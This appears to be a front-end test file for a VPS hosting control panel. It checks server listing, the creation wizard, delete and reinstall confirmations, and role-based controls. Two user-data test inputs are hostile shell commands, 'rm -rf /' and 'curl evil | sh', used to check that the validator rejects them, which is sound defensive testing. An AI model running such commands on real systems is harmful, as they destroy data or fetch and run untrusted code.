import { fireEvent, screen, waitFor, within } from '@testing-library/react';
import { afterEach, describe, expect, it } from 'vitest';
import { json, mockApi, resetApi, signIn as signInAs, testUser, type ApiHandler } from '../../../web/src/testing/api-mock';
import { renderAt } from '../../../web/src/testing/render';
import { hostnameProblem, userDataProblem, type Image, type Plan, type Vps } from './api';
import NewVpsPage from './NewVpsPage';
import VpsListPage from './VpsListPage';
import VpsPage from './VpsPage';

const ALL = ['vps.read', 'vps.create', 'vps.operate', 'vps.delete'];
let permissions = ALL;
let role = 'user';
async function signIn(o: { perms?: string[]; role?: string } = {}) {
  permissions = o.perms ?? ALL;
  role = o.role ?? 'user';
  await signInAs();
}

const mockFetch = (handler: ApiHandler) => mockApi(handler, { me: () => testUser({ role, permissions }) });
afterEach(resetApi);

const vps = (over: Partial<Vps> = {}): Vps => ({
  id: 'v1', ownerId: 'me', hostname: 'web1', dnsName: null, domainName: 'slw-v1', planId: 'p1', imageId: 'i1', vcpus: 1, memoryMb: 1024, diskGb: 10,
  network: 'public', address: '10.230.0.12', mac: '52:54:00:aa:bb:cc', state: 'running', lastError: null, expiry: null, hostId: null, createdAt: 0, updatedAt: 0, ...over,
});
const plan = (over: Partial<Plan> = {}): Plan => ({ id: 'p1', name: 'Small', vcpus: 1, memoryMb: 1024, diskGb: 10, bandwidthGb: 1000, maxSnapshots: 2, priceLabel: '€5/month', public: true, createdAt: 0, updatedAt: 0, ...over });
const image = (over: Partial<Image> = {}): Image => ({
  id: 'i1', name: 'debian-12', status: 'ready', reason: null, os: 'debian', version: '12', minDiskGb: 2, cloudInit: true, public: true, sourceFormat: 'qcow2',
  sha256: null, sizeBytes: 1, virtualSize: 1, directKernel: false, createdAt: 0, updatedAt: 0, ...over,
});

describe('client-side checks', () => {
  it('validates hostnames and user-data as the server does', () => {
    expect(hostnameProblem('web1')).toBeNull();
    for (const bad of ['Web1', '-web', 'web-', 'a;b', '123', 'x'.repeat(64), '']) expect(hostnameProblem(bad), bad).not.toBeNull();
    expect(userDataProblem('')).toBeNull();
    expect(userDataProblem('#cloud-config\npackages: [htop]\n')).toBeNull();
    expect(userDataProblem('#!/bin/sh\nrm -rf /')).toMatch(/#cloud-config/);
    expect(userDataProblem('#cloud-config\nfoo: [1, 2\n')).toMatch(/not valid YAML/);
    expect(userDataProblem('#cloud-config\na: 1\na: 2\n')).toMatch(/not valid YAML/);
    expect(userDataProblem('#cloud-config\n- a\n- b\n')).toMatch(/mapping/);
    expect(userDataProblem('#cloud-config\na: 1\n---\nb: 2\n')).toMatch(/one YAML document/);
    expect(userDataProblem(`#cloud-config\nx: "${'a'.repeat(70 * 1024)}"\n`)).toMatch(/64 KiB/);
  });
});

describe('VPS list', () => {
  it('shows each server with its live state, and a search that filters', async () => {
    mockFetch((_req, path) => {
      if (path === '/api/v1/vps') return json(200, { total: 3, items: [vps(), vps({ id: 'v2', hostname: 'db1', state: 'shut off', address: '10.230.0.13' }), vps({ id: 'v3', hostname: 'new1', state: 'creating', address: null })] });
    });
    await signIn();
    renderAt('/vps', '/vps', VpsListPage);
    expect(await screen.findByText('web1')).toBeTruthy();
    expect([...document.querySelectorAll('[data-vps-state]')].map((b) => b.getAttribute('data-vps-state'))).toEqual(['running', 'shut off', 'creating']);
    expect(screen.getByText('10.230.0.12')).toBeTruthy();
    expect(screen.getByText('creating…')).toBeTruthy();
    expect(screen.queryByRole('columnheader', { name: 'Owner' })).toBeNull(); // customers do not see owners
    fireEvent.change(screen.getByLabelText('Search'), { target: { value: 'db' } });
    await waitFor(() => expect(screen.queryByText('web1')).toBeNull());
    expect(screen.getByText('db1')).toBeTruthy();
    fireEvent.change(screen.getByLabelText('Search'), { target: { value: 'nothing-like-it' } });
    expect(await screen.findByText(/No server matches/)).toBeTruthy();
  });

  it('tells the truth when empty: no plan or image yet means nothing can be created', async () => {
    mockFetch((_req, path) => {
      if (path === '/api/v1/vps') return json(200, { total: 0, items: [] });
      if (path === '/api/v1/vps/plans') return json(200, { items: [] });
      if (path === '/api/v1/vps/images') return json(200, { items: [image({ status: 'converting' })] });
    });
    await signIn();
    renderAt('/vps', '/vps', VpsListPage);
    expect(await screen.findByText('You have no virtual servers yet')).toBeTruthy();
    expect(await screen.findByText(/no plan and no ready image exists yet: ask your provider/)).toBeTruthy();
  });

  it('offers the first server when plans and images exist; a role without create gets no button', async () => {
    mockFetch((_req, path) => {
      if (path === '/api/v1/vps') return json(200, { total: 0, items: [] });
      if (path === '/api/v1/vps/plans') return json(200, { items: [plan()] });
      if (path === '/api/v1/vps/images') return json(200, { items: [image()] });
    });
    await signIn({ perms: ['vps.read'], role: 'viewer' });
    renderAt('/vps', '/vps', VpsListPage);
    expect(await screen.findByText('No virtual servers yet')).toBeTruthy();
    expect(await screen.findByText(/Your role can see servers but not create them/)).toBeTruthy();
    expect(screen.queryByRole('button', { name: 'New server' })).toBeNull();
  });

  it('shows the server error instead of an empty list', async () => {
    mockFetch((_req, path) => (path === '/api/v1/vps' ? json(503, { error: { code: 'module_unavailable', message: 'libvirtd is not running' } }) : undefined));
    await signIn();
    renderAt('/vps', '/vps', VpsListPage);
    expect(await screen.findByText('libvirtd is not running')).toBeTruthy();
  });
});

describe('create wizard', () => {
  const api = (onPost: (body: unknown) => Response) => mockFetch((req, path) => {
    if (path === '/api/v1/vps/plans') return json(200, { items: [plan()] });
    if (path === '/api/v1/vps/images') return json(200, { items: [image()] });
    if (path === '/api/v1/ssh-keys') return json(200, { items: [{ id: 'k1', name: 'laptop', type: 'ssh-ed25519', fingerprint: 'SHA256:abc', publicKey: 'ssh-ed25519 AAAA', createdAt: 0 }] });
    if (path === '/api/v1/vps' && req.method === 'POST') return req.clone().json().then(onPost);
  });
  async function fillFirstStep() {
    fireEvent.change(await screen.findByLabelText(/^Hostname/), { target: { value: 'web1' } });
    fireEvent.click(await screen.findByRole('radio', { name: 'Small' }));
    const img = screen.getByRole('combobox', { name: /^Image/ });
    await waitFor(() => expect(img.getAttribute('placeholder')).toBe('Choose an image'));
    fireEvent.focus(img);
    fireEvent.click(img);
    fireEvent.click(await screen.findByRole('option', { name: /debian-12/, hidden: true }));
    const next = screen.getByRole('button', { name: 'Next' });
    await waitFor(() => expect((next as HTMLButtonElement).disabled).toBe(false));
    fireEvent.click(next);
  }

  it("refuses user-data that is not #cloud-config at the field before sending, then shows the server's reason at the field", async () => {
    const calls = api(() => json(400, { error: { code: 'validation_failed', message: "User-data sets hostname to something other than the VPS hostname 'web1'; remove it or rename the VPS", details: { field: 'userData' } } }));
    await signIn();
    renderAt('/vps/new', '/vps/new', NewVpsPage);
    await fillFirstStep();
    const ud = await screen.findByLabelText(/^Cloud-init user-data/);
    fireEvent.change(ud, { target: { value: '#!/bin/sh\ncurl evil | sh\n' } });
    const err = await screen.findByText(/must start with the line "#cloud-config"/);
    expect(ud.getAttribute('aria-describedby') ?? '').toContain(err.id);
    expect((screen.getByRole('button', { name: 'Next' }) as HTMLButtonElement).disabled).toBe(true);

    fireEvent.click(screen.getByLabelText(/laptop/));
    fireEvent.change(ud, { target: { value: '#cloud-config\nhostname: other\n' } });
    await waitFor(() => expect(screen.queryByText(/must start with the line/)).toBeNull());
    fireEvent.click(screen.getByRole('button', { name: 'Next' }));
    fireEvent.click(await screen.findByRole('button', { name: 'Next' }));
    fireEvent.click(await screen.findByRole('button', { name: 'Create server' }));
    // Back at the user-data step, the server's reason next to the editor.
    const serverErr = await screen.findByText(/User-data sets hostname to something other than the VPS hostname/);
    const field = screen.getByLabelText(/^Cloud-init user-data/);
    expect(field.getAttribute('aria-describedby') ?? '').toContain(serverErr.id);
    const posts = calls.filter((c) => c.method === 'POST');
    expect(posts).toHaveLength(1);
    expect(posts[0]!.body).toEqual({ hostname: 'web1', planId: 'p1', imageId: 'i1', sshKeyIds: ['k1'], userData: '#cloud-config\nhostname: other\n', network: 'public', start: true });
    // Editing clears the server's reason.
    fireEvent.change(field, { target: { value: '#cloud-config\npackages: [htop]\n' } });
    await waitFor(() => expect(screen.queryByText(/User-data sets hostname/)).toBeNull());
  });

  it('a quota refusal (422) is shown on the review step, naming the limit', async () => {
    api(() => json(422, { error: { code: 'quota_exceeded', message: 'Quota exceeded: this would use 6 VPSes, the quota is 5', details: { resource: 'count', requested: 6, limit: 5 } } }));
    await signIn();
    renderAt('/vps/new', '/vps/new', NewVpsPage);
    await fillFirstStep();
    fireEvent.click(await screen.findByRole('button', { name: 'Next' }));
    fireEvent.click(await screen.findByRole('button', { name: 'Next' }));
    fireEvent.click(await screen.findByRole('button', { name: 'Create server' }));
    expect(await screen.findByText('Quota exceeded: this would use 6 VPSes, the quota is 5')).toBeTruthy();
    expect(screen.getByText('The server was not created')).toBeTruthy();
  });
});

describe('VM page', () => {
  const api = () => mockFetch((req, path) => {
    if (path === '/api/v1/vps/v1' && req.method === 'GET') return json(200, { vps: vps() });
    if (path === '/api/v1/vps/v1' && req.method === 'DELETE') return json(202, { job: { id: 'j9', title: 'Delete VPS web1' } });
    if (path === '/api/v1/vps/v1/poweroff') return json(200, { vps: vps({ state: 'shut off' }) });
    if (path === '/api/v1/vps/v1/reinstall') return json(202, { vps: vps(), job: { id: 'j10', title: 'Reinstall VPS' } });
    if (path.startsWith('/api/v1/vps/v1/metrics')) {
      const range = new URL(req.url, 'http://x').searchParams.get('range');
      return json(200, {
        range, stepMs: 60_000, sampleIntervalMs: 60_000,
        points: range === '7d' ? [] : [{ at: 1_700_000_000_000, cpuPct: 12.5, memoryUsedMb: 300, memoryMb: 1024, diskReadBps: 1, diskWriteBps: 2, netRxBps: 3, netTxBps: 4 }],
        bandwidth: { month: '2026-12', rxBytes: 600 * 1024 ** 3, txBytes: 500 * 1024 ** 3, usedBytes: 1100 * 1024 ** 3, limitBytes: 1000 * 1024 ** 3, overLimit: true },
      });
    }
    if (path === '/api/v1/vps/v1/snapshots') return json(200, { items: [] });
    if (path === '/api/v1/vps/plans') return json(200, { items: [plan()] });
    if (path === '/api/v1/vps/images') return json(200, { items: [image()] });
  });

  it('deletes only after the hostname is typed, sending it as the confirmation', async () => {
    const calls = api();
    await signIn();
    renderAt('/vps/v1', '/vps/$vpsId', VpsPage);
    fireEvent.click(await screen.findByRole('button', { name: 'Delete' }));
    const dialog = await screen.findByRole('dialog');
    const confirm = within(dialog).getByRole('button', { name: 'Delete server' }) as HTMLButtonElement;
    expect(confirm.disabled).toBe(true);
    const input = within(dialog).getByLabelText(/Type/);
    fireEvent.change(input, { target: { value: 'web' } });
    expect(confirm.disabled).toBe(true);
    fireEvent.change(input, { target: { value: 'WEB1' } });
    expect(confirm.disabled).toBe(true);
    fireEvent.submit(confirm.closest('form')!);
    expect(calls.some((c) => c.method === 'DELETE')).toBe(false);
    fireEvent.change(input, { target: { value: 'web1' } });
    expect(confirm.disabled).toBe(false);
    fireEvent.click(confirm);
    expect(await screen.findByText('job page')).toBeTruthy();
    expect(calls.filter((c) => c.method === 'DELETE')).toEqual([{ path: '/api/v1/vps/v1', method: 'DELETE', body: { confirm: 'web1' } }]);
  });

  it('usage: charts for the chosen range, and the month\'s bandwidth against the plan', async () => {
    const calls = api();
    await signIn();
    renderAt('/vps/v1', '/vps/$vpsId', VpsPage);
    fireEvent.click(await screen.findByRole('tab', { name: 'Usage' }));
    expect(await screen.findByText('Bandwidth in 2026-12')).toBeTruthy();
    expect(screen.getByText(/allowance is used up/)).toBeTruthy();
    expect(screen.getByRole('img', { name: /CPU use of web1/ })).toBeTruthy();
    expect(screen.getByRole('img', { name: /Network traffic of web1/ })).toBeTruthy();
    fireEvent.click(screen.getByText('7 days'));
    expect(await screen.findByText(/No samples in this range yet/)).toBeTruthy();
    expect(calls.filter((c) => c.path.includes('/metrics')).length).toBeGreaterThanOrEqual(2);
  });

  it('reinstalls only after the hostname is typed', async () => {
    const calls = api();
    await signIn();
    renderAt('/vps/v1', '/vps/$vpsId', VpsPage);
    fireEvent.click(await screen.findByRole('tab', { name: 'Resize & reinstall' }));
    fireEvent.click(await screen.findByRole('button', { name: 'Reinstall…' }));
    const dialog = await screen.findByRole('dialog');
    const confirm = within(dialog).getByRole('button', { name: 'Reinstall' }) as HTMLButtonElement;
    expect(confirm.disabled).toBe(true);
    fireEvent.change(within(dialog).getByLabelText(/Type/), { target: { value: 'web1' } });
    expect(confirm.disabled).toBe(false);
    fireEvent.click(confirm);
    expect(await screen.findByText('job page')).toBeTruthy();
    expect(calls.filter((c) => c.path.endsWith('/reinstall'))).toEqual([{ path: '/api/v1/vps/v1/reinstall', method: 'POST', body: { imageId: 'i1', confirm: 'web1' } }]);
  });

  it('confirms power off before sending it', async () => {
    const calls = api();
    await signIn();
    renderAt('/vps/v1', '/vps/$vpsId', VpsPage);
    fireEvent.click(await screen.findByRole('button', { name: 'More power actions' }));
    fireEvent.click(await screen.findByRole('menuitem', { name: 'Power off' }));
    const dialog = await screen.findByRole('dialog');
    expect(within(dialog).getByText(/like pulling the plug/)).toBeTruthy();
    expect(calls.some((c) => c.path.endsWith('/poweroff'))).toBe(false);
    fireEvent.click(within(dialog).getByRole('button', { name: 'Power off' }));
    await waitFor(() => expect(calls.some((c) => c.path === '/api/v1/vps/v1/poweroff' && c.method === 'POST')).toBe(true));
  });

  it('a role without operate/delete sees no power, console, snapshot or delete controls', async () => {
    api();
    await signIn({ perms: ['vps.read'], role: 'viewer' });
    renderAt('/vps/v1', '/vps/$vpsId', VpsPage);
    expect(await screen.findByRole('heading', { name: 'web1' })).toBeTruthy();
    for (const name of ['Delete', 'Reboot', 'Shut down', 'More power actions']) expect(screen.queryByRole('button', { name })).toBeNull();
    expect(screen.queryByRole('tab', { name: 'Console' })).toBeNull();
    fireEvent.click(screen.getByRole('tab', { name: 'Snapshots' }));
    expect(await screen.findByText('No snapshots')).toBeTruthy();
    expect(screen.queryByRole('button', { name: 'Take snapshot' })).toBeNull();
  });
});
